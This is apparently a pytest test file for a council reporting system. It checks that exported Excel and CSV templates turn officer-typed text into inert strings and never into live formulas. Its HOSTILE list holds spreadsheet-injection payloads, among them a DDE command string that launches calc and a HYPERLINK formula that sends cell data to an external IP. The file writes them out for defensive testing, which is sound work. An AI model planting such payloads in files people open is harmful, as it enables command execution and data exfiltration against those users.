"""What officers typed goes out in templates as the text that it is: nothing in one is ever a live formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from helpers.assurance import record
from helpers.council import Council, open_road
from helpers.files import csv_file
from helpers.templates import both, made, rows_of
from openpyxl import load_workbook

from pmf.intake.headings import KINDS
from pmf.intake.template import Template

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://198.51.100.7/?"&A1,"Click")', "=IMPORTXML(A1)",
    "+44 20 7946 0000", "+1+1", "-x", "-2+3", "-5", "@SUM(A1)", "'=1+1", "''=2", "\uff1d1+1",
    '="a""b",c', "#REF!", "_x0041_b", "=1\n+2",
)  # fmt: skip
# What no cell of a CSV may begin with, but for a plain negative number.
_LIVE = re.compile(r"\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_TEXTS = {
    "plans": ("Plan id", "Title", "Directorate", "Service", "Owner", "Lead member", "Purpose",
              "Monitored by", "Monitored"),
    "indicators": ("Indicator code", "Name", "Unit", "Definition", "Directorate", "Service", "Owner", "Lead member",
                   "Numerator", "Denominator", "Source", "Benchmark source", "Reason", "Tags"),
    "targets": ("Place", "Group", "Set by", "Rationale"),
    "performance": ("Place", "Group", "Commentary", "Cause", "Action", "Action owner", "Reason for restatement"),
    "actions": ("Action id", "Title", "Owner", "Commentary", "Risk id"),
    "budget": ("Line", "Service", "Directorate", "Commentary"),
    "risks": ("Risk id", "Title", "Owner", "Cause", "Event", "Consequence", "Directorate", "Service", "Mitigation", "Commentary"),
    "feedback": ("Service", "Commentary"),
    "complaints": ("Case", "Service", "Reason for extension"),
    "workforce": ("Service", "Commentary"),
}  # fmt: skip
_FIXED = {
    "plans": {"Level": "Team plan"},
    "indicators": {"Quadrant": "Performance", "Polarity": "Higher is better", "Kind": "Snapshot", "Frequency": "Quarterly"},
    "targets": {"Period": "2025/26", "Target": "-5.25"},
    "performance": {"Period": "2025/26 Q2", "Value": "-5.25"},
    "actions": {"Plan id": "-x", "Due": "2026-03-31", "Period": "2025/26 Q3"},
    "budget": {"Period": "2025/26 Q2", "Fund": "HRA", "Nature": "Expenditure", "Approved budget": "90", "Actual to date": "40", "Forecast outturn": "95"},
    "risks": {"Reviewed on": "2026-01-05", "Residual impact": "3", "Residual likelihood": "3"},
    "feedback": {"Period": "2025/26 Q2", "Complaints received": "5"},
    "complaints": {"Stage": "1", "Received on": "2026-01-05", "Acknowledged on": "2026-01-06", "Extended to": "2026-01-30"},
    "workforce": {"Period": "2025/26 Q2", "FTE at start": "5", "FTE at end": "5"},
}  # fmt: skip


def _typed_into(kind: str) -> tuple[str, ...]:
    """The strings that can stand in a return of a kind: of people and customers none that could be a telephone's."""
    if kind in ("feedback", "complaints", "workforce"):
        return tuple(text for text in HOSTILE if "7946" not in text)
    return HOSTILE


def _return(kind: str) -> bytes:
    """A return in which every column of text holds each of the strings once."""
    keys = ("Indicator code",) if kind in ("targets", "performance") else ()
    headings = (*keys, *_TEXTS[kind], *_FIXED[kind])
    return csv_file(headings, *[[text] * (len(headings) - len(_FIXED[kind])) + list(_FIXED[kind].values()) for text in map(_as_typed, _typed_into(kind))])  # fmt: skip


def _as_typed(text: str) -> str:
    """A string as a CSV must spell it to mean just that."""
    return f"'{text}" if text.startswith("'") else text


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Council]:
    """A council whose every name, note and service is such a string."""
    with open_road(tmp_path_factory.mktemp("hostile") / "council.duckdb") as council:
        for kind in KINDS:
            assert council.accepted(_return(kind), f"{kind}.csv").tally.added == len(_typed_into(kind))
        yield council


def _templates(council: Council) -> list[Template]:
    whole = [made(council, kind, "2025/26 Q3") for kind in KINDS]
    return whole + [made(council, "performance", "2025/26 Q3", text) for text in HOSTILE]


def test_nothing_in_a_template_is_a_live_formula_and_all_of_it_reads_back_the_same(hostile: Council) -> None:
    cells = live = changed = 0
    templates = _templates(hostile)
    for template in templates:
        workbook, sheet = both(template)
        formulas, seen = _of_workbook(workbook)
        live, cells = live + formulas, cells + seen
        for line in csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline="")):
            cells += len(line)
            live += sum(bool(_LIVE.match(cell)) and not _NUMBER.fullmatch(cell) for cell in line)
        printed = [{word: cell for word, cell in row.cells.items() if isinstance(cell, str)} for row in template.rows]  # fmt: skip
        back = rows_of(workbook, template.kind)
        assert len(back) == len(printed)
        for texts, read in zip(printed, back, strict=True):
            changed += sum(read[word] != text for word, text in texts.items() if word in read)  # fmt: skip
    for kind in ("plans", "indicators", "targets", "actions"):
        for name, content in zip(
            ("back.xlsx", "back.csv"), both(made(hostile, kind, "2025/26 Q3")), strict=True
        ):
            examined = hostile.look(content, name)
            tally = examined.tally
            changed += tally.added + tally.restated + tally.amended
            assert tally.unchanged >= len(HOSTILE), (name, kind, examined.findings)
    figures = sum(line["Target"] in (-5.25, "-5.25") for one in both(made(hostile, "targets", "2025/26")) for line in rows_of(one, "targets"))  # fmt: skip
    record(
        "export_injection_templates", strings=len(HOSTILE), templates=2 * len(templates), cells=cells,
        live_formulas=live, texts_changed=changed, negative_numbers_unchanged=figures,
    )  # fmt: skip
    assert (live, changed, figures) == (0, 0, 2 * len(HOSTILE))


def _of_workbook(content: bytes) -> tuple[int, int]:
    """How many cells of a workbook hold a formula, and how many there are; nothing else in it may run."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        names = package.namelist()
        assert not [
            name for name in names if re.search(r"vba|external|connection|hyperlink|embed", name, re.I)
        ]
        sheets = [package.read(name) for name in names if name.startswith("xl/worksheets/sheet")]
    formulas = sum(len(re.findall(rb"<f[ >/]|<hyperlink", sheet)) for sheet in sheets)
    cells = 0
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells += cell.value is not None
                formulas += cell.data_type == "f"
    return formulas, cells


def test_a_csv_guards_what_looks_like_a_formula_and_nothing_else(hostile: Council) -> None:
    guarded = {line["Plan id"] for line in rows_of(both(made(hostile, "plans"))[1])}
    assert len(guarded) == len(HOSTILE)
    assert "'=1+1" in guarded and "''=1+1" in guarded and "-5" in guarded
    assert "#REF!" in guarded
